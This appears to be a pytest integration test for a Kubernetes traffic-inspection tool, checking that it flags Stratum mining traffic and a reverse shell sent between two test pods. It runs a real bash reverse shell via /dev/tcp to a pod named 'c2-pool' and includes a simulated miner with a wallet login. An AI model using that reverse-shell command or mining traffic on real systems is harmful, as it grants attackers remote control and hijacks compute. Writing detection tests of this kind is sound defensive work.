"""Live capture: `kubeguard dpi --interface` on a test pod's host-side veth sees attacks sent between
two test pods (network namespaces) by real programs, and names the pods."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

from podlab import PodLab

REPO = Path(__file__).resolve().parents[2]

POOL = """
import socket, sys
srv = socket.create_server((sys.argv[1], 8443))
print("ready", flush=True)
conn, _ = srv.accept()
data = conn.recv(4096)
conn.sendall(b'{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a"]],"08000002",4],"error":null}\\n')
conn.recv(4096)
"""
MINER = """
import socket, sys, time
with socket.create_connection((sys.argv[1], 8443), timeout=5) as s:
    s.sendall(b'{"id":1,"method":"mining.subscribe","params":["xmrig/6.21.0"]}\\n')
    s.recv(4096)
    s.sendall(b'{"params":["wallet.rig1","x"],"id":2,"method":"mining.authorize"}\\n')
    time.sleep(0.3)
"""
LISTENER = """
import socket, sys, time
srv = socket.create_server((sys.argv[1], 4444))
print("ready", flush=True)
conn, _ = srv.accept()
conn.settimeout(5)
buf = b""
for command in (b"id\\n", b"exit\\n"):
    while not buf.rstrip().endswith((b"$", b"#")):
        chunk = conn.recv(4096)
        if not chunk:
            sys.exit(0)
        buf += chunk
    buf = b""
    conn.sendall(command)
time.sleep(0.5)
"""


def _wait_line(proc: subprocess.Popen[str], stream: str, text: str, timeout: float = 20) -> None:
    deadline = time.monotonic() + timeout
    pipe = getattr(proc, stream)
    while time.monotonic() < deadline:
        line = pipe.readline()
        if text in line:
            return
        if not line and proc.poll() is not None:
            raise AssertionError(f"process ended before {text!r}: {proc.returncode}")
    raise AssertionError(f"no {text!r} within {timeout} s")


def test_live_capture_between_two_pods(podlab: PodLab, tmp_path: Path) -> None:
    attacker = podlab.pod("c2-pool", namespace="outside")
    victim = podlab.pod("web-5d9f", namespace="shop", labels={"app": "web"})
    pods = podlab.write_pods(tmp_path / "pods.json")
    flows = tmp_path / "flows.jsonl"
    env = {**os.environ, "PYTHONPATH": str(REPO / "src"), "KUBEGUARD_DB": str(tmp_path / "alerts.db")}
    dpi = subprocess.Popen(
        [sys.executable, "-m", "kubeguard", "dpi", "--interface", victim.host_veth, "--duration", "60",
         "-o", "json", "--pods", str(pods), "--flows-out", str(flows)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    try:
        _wait_line(dpi, "stderr", "capturing on")
        # 1. a miner in the pod speaks Stratum to a "pool" on a non-standard port
        pool = attacker.popen([sys.executable, "-c", POOL, attacker.ip], stdout=subprocess.PIPE, text=True)
        _wait_line(pool, "stdout", "ready")
        miner = victim.run([sys.executable, "-c", MINER, attacker.ip], timeout=30)
        assert miner.returncode == 0, miner.stderr
        # 2. a real bash reverse shell from the pod to the attacker
        listener = attacker.popen([sys.executable, "-c", LISTENER, attacker.ip], stdout=subprocess.PIPE, text=True)
        _wait_line(listener, "stdout", "ready")
        shell = victim.run(["bash", "-c", f"exec bash -i >& /dev/tcp/{attacker.ip}/4444 0>&1"], timeout=30,
                           env={"PATH": "/usr/bin:/bin", "PS1": r"\u@\h:\w\$ ", "HOME": "/tmp"})
        assert shell.returncode == 0, shell.stderr
        listener.wait(10)
        time.sleep(0.5)
    finally:
        dpi.send_signal(signal.SIGTERM)
        out, err = dpi.communicate(timeout=30)
    assert dpi.returncode == 0, err
    alerts = [json.loads(line) for line in out.splitlines() if line.strip()]
    by_rule = {a["rule"]: a for a in alerts}
    assert {"Stratum mining protocol", "Reverse shell on the wire"} <= set(by_rule), err
    for rule, port in (("Stratum mining protocol", 8443), ("Reverse shell on the wire", 4444)):
        fields = by_rule[rule]["output_fields"]
        assert (fields["fd.cip"], fields["fd.sip"], fields["fd.sport"]) == (victim.ip, attacker.ip, port)
        assert (fields["k8s.ns.name"], fields["k8s.pod.name"]) == ("shop", "web-5d9f")
        assert fields["net.server.pod"] == "outside/c2-pool"
    records = [json.loads(line) for line in flows.read_text().splitlines()]
    stratum = [r for r in records if r["fd.sport"] == 8443]
    assert stratum and stratum[0]["net.proto"] == "stratum" and stratum[0]["flow.pkts_toserver"] >= 3
